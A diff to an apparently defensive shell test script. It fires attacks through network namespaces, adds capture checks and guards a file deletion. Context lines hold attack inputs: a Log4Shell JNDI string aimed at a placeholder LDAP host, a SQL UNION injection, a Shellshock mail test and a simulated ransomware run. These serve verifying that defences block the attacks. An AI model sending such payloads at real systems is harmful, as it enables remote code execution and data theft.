@@ -239,7 +239,7 @@ DUMPS=()
 dump() {
 	local i
 	for i in veth0 far; do
-		ip netns exec "$NS_A" tcpdump -U -s 0 -B 16384 -n -i $i -w "$WORK/$i.pcap" not port 4120 and not port 4119 2>"$WORK/tcpdump-$i.log" &
+		ip netns exec "$NS_A" tcpdump --immediate-mode -U -s 0 -B 16384 -n -i $i -w "$WORK/$i.pcap" not port 4120 and not port 4119 2>"$WORK/tcpdump-$i.log" &
 		DUMPS+=("$!")
 		PIDS+=("$!")
 		until_ok 10 grep -q listening "$WORK/tcpdump-$i.log"
@@ -280,6 +280,8 @@ marked() {
 	live | grep -q "^10.214.0.99	"
 }
 check_until "the last attack has its event" 90 marked
+written() { captured | grep -q "^10.214.0.99	"; }
+check_until "and is in the capture" 30 written
 kill -TERM "${DUMPS[@]}"
 wait "${DUMPS[@]}"
 dropped_none() { ! grep -hE '^[1-9][0-9]* packets dropped' "$WORK"/tcpdump-*.log; }
@@ -311,7 +313,7 @@ check "nor does SQL in a form" gets_nothing "http://$V4/item" -d 'id=1+UNION+SEL
 check "nor Log4Shell in a header" gets_nothing "http://$V4/" -A '${jndi:ldap://192.0.2.1/a}'
 check "and nginx saw none of them" test "$(lines)" = "$before"
 check "a mail with Shellshock is not taken" eval '! mail_attack'
-rm -f "$S"/share/*
+rm -rf "${S:?}"/share/*
 ransom_attack >"$WORK/ransom.out" 2>&1
 check "no file is given the extension of ransomware" test -z "$(ls "$S/share" | grep lockbit)"
 finish
